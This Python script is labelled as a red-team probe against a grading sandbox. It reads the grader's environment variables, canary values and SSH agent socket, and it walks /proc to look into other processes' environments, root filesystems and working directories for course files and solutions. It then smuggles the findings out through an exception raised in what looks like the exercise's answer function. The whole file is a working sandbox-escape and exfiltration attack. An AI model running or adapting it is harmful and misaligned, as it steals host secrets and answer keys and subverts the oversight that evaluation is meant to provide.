# Red team: read the grader's environment and command lines through /proc, and walk into the root and
# working directory of every process it can see, hoping one of them is outside the sandbox.
import json
import os

loot = {}
HOST = ("USER", "LOGNAME", "SHELL", "TERM", "OLDPWD", "SSH_AUTH_SOCK", "VIRTUAL_ENV", "SUDO_USER")


def secret(name):
    """A variable of the grader's environment, not one the sandbox sets."""
    return name in HOST or name.startswith(("PYTEST", "AG_")) or "CANARY" in name


secret_names = [name for name in os.environ if secret(name)]
if secret_names:
    loot["environ"] = {name: os.environ[name] for name in secret_names}
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "thread-self"]:
    for what in ["environ", "root/etc/hostname", "cwd", "root/work/main/course.yml"]:
        path = f"/proc/{pid}/{what}"
        try:
            if what == "cwd":
                entries = os.listdir(path)
                if "course.yml" in entries or "solutions" in entries:
                    loot[path] = entries
                continue
            with open(path, "rb") as stream:
                text = stream.read(2000).decode(errors="replace")
        except OSError:
            continue
        if what == "environ":
            names = [item.split("=", 1)[0] for item in text.split("\0") if "=" in item]
            extra = [n for n in names if secret(n)]
            if extra:
                loot[path] = text
        else:  # the sandbox has neither /etc/hostname nor /work/main/course.yml: read, it is the host's
            loot[path] = text


def posterior(prior, likelihood):
    raise RuntimeError("LOOT:" + json.dumps(sorted(loot)))
